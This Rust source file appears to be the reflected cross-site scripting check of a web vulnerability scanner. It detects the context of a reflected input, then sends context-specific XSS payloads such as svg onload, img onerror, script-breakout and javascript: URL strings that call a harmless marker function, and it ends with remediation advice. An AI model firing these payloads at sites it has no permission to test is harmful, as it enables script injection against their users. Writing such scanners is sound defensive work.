//! Reflected cross-site scripting, context by context. A harmless marker
//! goes first; where it comes back, the HTML parser says in which context
//! (text, attribute, URL, event handler, script, comment). Payloads made for
//! that context follow, each calling a fresh marker function, and only a
//! response where that call sits where a browser would run it (an event
//! handler, a `javascript:` URL, a script element, outside strings and
//! comments) proves the finding. An encoded or neutralised reflection
//! proves nothing.

use super::{Check, Ctx, Run, Target, marker};
use crate::finding::{Confidence, Finding, Severity};
use crate::html::{Context, contexts, executes};
use crate::request::Point;

/// The check.
pub const CHECK: Check = Check {
    id: "xss",
    name: "reflected cross-site scripting",
    rules: &["VGW-XSS-REFLECTED"],
    default: true,
    run: Run::Point(run),
};

/// Elements whose text is not parsed as markup.
const RAW_TEXT: &[&str] = &["title", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe", "plaintext"];

/// Payloads for a context; `CALL` stands for the marker call.
fn payloads(context: &Context) -> Vec<String> {
    let tag = "<svg onload=CALL>";
    match context {
        Context::Text { parent } if RAW_TEXT.contains(&parent.as_str()) => vec![format!("</{parent}>{tag}")],
        Context::Text { .. } => vec![tag.into(), "<img src=x onerror=CALL>".into(), "<script>CALL</script>".into()],
        Context::Attribute { .. } => vec![
            format!("\">{tag}"),
            format!("'>{tag}"),
            "\" autofocus onfocus=CALL x=\"".into(),
            "' autofocus onfocus=CALL x='".into(),
            format!("x onmouseover=CALL>{tag}"),
        ],
        Context::Url { .. } => vec!["javascript:CALL".into(), format!("\">{tag}"), format!("'>{tag}")],
        Context::Handler { .. } => vec!["';CALL;//".into(), "\";CALL;//".into(), "CALL".into(), format!("\">{tag}")],
        Context::Script => vec![
            "';CALL;//".into(),
            "\";CALL;//".into(),
            "`;CALL;//".into(),
            "CALL;//".into(),
            format!("</script>{tag}"),
        ],
        Context::Comment => vec![format!("-->{tag}"), format!("--!>{tag}")],
    }
}

fn run(ctx: &Ctx<'_>, target: &Target, point: &Point) -> Vec<Finding> {
    let probe = marker();
    let request = target.request.with(point, &probe);
    let Some(response) = ctx.send(&request) else { return Vec::new() };
    if !response.is_html() || !response.body.contains(&probe) {
        return Vec::new();
    }
    for context in contexts(&response.body, &probe) {
        for payload in payloads(&context) {
            let call = format!("{}(1)", marker());
            let payload = payload.replace("CALL", &call);
            let attack = target.request.with(point, &payload);
            let Some(answer) = ctx.send(&attack) else { return Vec::new() };
            if !answer.is_html() {
                continue;
            }
            if let Some(proof) = executes(&answer.body, &call) {
                let finding = ctx.finding(
                    "VGW-XSS-REFLECTED",
                    format!("Reflected cross-site scripting in {point} ({})", context.name()),
                    (Severity::High, Confidence::Certain, 79),
                    &attack,
                    &answer,
                    &call,
                    format!("the payload lands in {} and runs as script: {proof}", context.name()),
                );
                return vec![finding.at(point, &payload).advice(
                    "Encode output for the context it is written into (HTML text, attribute, URL, JavaScript string) \
                     with the template engine's auto-escaping, allow only http(s) URLs in links, and set a \
                     Content-Security-Policy without 'unsafe-inline'.",
                    &["https://owasp.org/www-community/attacks/xss/", "https://cwe.mitre.org/data/definitions/79.html"],
                )];
            }
        }
    }
    Vec::new()
}
